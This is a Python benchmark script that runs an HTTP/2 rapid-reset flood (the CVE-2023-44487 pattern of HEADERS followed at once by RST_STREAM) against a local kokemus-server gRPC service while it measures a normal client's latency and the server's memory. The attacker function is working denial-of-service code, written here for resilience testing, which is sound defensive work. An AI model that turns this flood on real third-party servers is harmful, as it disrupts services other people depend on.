#!/usr/bin/python3
"""HTTP/2 rapid reset against a running kokemus-server, while a well-behaved
client's latency is measured (issue 18, item 11).

The attacker opens --connections raw HTTP/2 connections (python3-h2) and on
each sends, as fast as it can, a gRPC request's HEADERS followed at once by
RST_STREAM (CVE-2023-44487's pattern). The client calls GetCaller over gRPC
(python3-grpcio, raw bytes: no generated code) one call at a time. Each phase
runs --seconds: first without the attack (baseline), then with it.

  apt-get install python3-h2 python3-grpcio
  bench/rapid_reset.py --server 127.0.0.1:50051 --key kok_... [--pid PID]

Prints one JSON line per phase: calls, errors, p50/p99 in ms, resets sent,
and the server's resident memory (with --pid).
"""
import argparse
import json
import socket
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events

METHOD = "/kokemus.v1.AccessService/GetCaller"


def rss_kib(pid):
    if pid is None:
        return None
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


def attacker(host, port, key, stop, counter):
    """One connection: HEADERS then RST_STREAM, as fast as the socket takes."""
    try:
        sock = socket.create_connection((host, port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        headers = [
            (":method", "POST"), (":scheme", "http"), (":path", METHOD),
            (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
            ("te", "trailers"), ("authorization", f"Bearer {key}"),
        ]
        while not stop.is_set():
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream)
                counter[0] += 1
            data = conn.data_to_send()
            while data and not stop.is_set():
                try:
                    sent = sock.send(data)
                    data = data[sent:]
                except BlockingIOError:
                    time.sleep(0.001)
                # Read and process what the server says (settings, GOAWAY).
                try:
                    incoming = sock.recv(65536)
                    if not incoming:
                        return
                    for event in conn.receive_data(incoming):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            counter[1] += 1
                            return
                except BlockingIOError:
                    pass
    except (OSError, h2.exceptions.ProtocolError):
        counter[1] += 1


def client(target, key, seconds):
    channel = grpc.insecure_channel(target)
    call = channel.unary_unary(METHOD)  # bytes in, bytes out
    latencies, errors = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        start = time.monotonic()
        try:
            call(b"", metadata=[("authorization", f"Bearer {key}")], timeout=5)
            latencies.append((time.monotonic() - start) * 1000)
        except grpc.RpcError:
            errors += 1
    latencies.sort()
    pick = lambda q: round(latencies[min(len(latencies) - 1, int(q * len(latencies)))], 2) \
        if latencies else None
    return {"calls": len(latencies), "errors": errors, "p50_ms": pick(0.5), "p99_ms": pick(0.99)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--server", default="127.0.0.1:50051")
    parser.add_argument("--key", required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--pid", type=int)
    args = parser.parse_args()
    host, port = args.server.rsplit(":", 1)

    base = client(args.server, args.key, args.seconds)
    print(json.dumps({"phase": "baseline", **base, "server_rss_kib": rss_kib(args.pid)}))

    stop = threading.Event()
    counters = [[0, 0] for _ in range(args.connections)]
    threads = [threading.Thread(target=attacker, args=(host, int(port), args.key, stop, c))
               for c in counters]
    for t in threads:
        t.start()
    attacked = client(args.server, args.key, args.seconds)
    rss = rss_kib(args.pid)
    stop.set()
    for t in threads:
        t.join()
    print(json.dumps({"phase": "rapid reset", **attacked,
                      "resets_per_s": round(sum(c[0] for c in counters) / args.seconds),
                      "attacker_connections_closed": sum(c[1] for c in counters),
                      "server_rss_kib": rss}))


if __name__ == "__main__":
    main()
